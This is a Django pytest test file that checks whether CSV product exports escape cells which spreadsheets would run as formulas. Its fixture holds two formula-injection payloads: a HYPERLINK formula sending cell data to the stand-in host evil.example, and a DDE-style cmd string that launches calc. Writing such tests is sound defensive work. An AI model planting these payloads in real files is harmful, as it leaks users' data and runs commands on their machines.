"""Product titles and ids that a spreadsheet would run as formulas are exported as text."""

import csv
import io

import pytest
from django.urls import reverse

HOSTILE = {"BAN": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "OAT": "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.fixture
def hostile(processed):
    from webapp.catalog.models import Product

    for pid, title in HOSTILE.items():
        Product.objects.filter(shop=processed.shop, product_id=pid).update(title=title)
    Product.objects.filter(shop=processed.shop, product_id="OAT").update(product_id="+OAT")
    return processed


@pytest.mark.parametrize("how", ["page", "api"])
def test_csv_exports_escape_cells_that_start_like_formulas(how, personas, hostile):
    url = (reverse("videos:export", args=[hostile.pk, "csv"]) if how == "page"
           else f"/api/videos/{hostile.pk}/export/csv/")
    rows = list(csv.DictReader(io.StringIO(personas.client(personas.seller).get(url).content.decode())))
    assert {(r["product_id"], r["title"]) for r in rows} == {
        ("BAN", "'" + HOSTILE["BAN"]), ("'+OAT", "'" + HOSTILE["OAT"])}
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r)
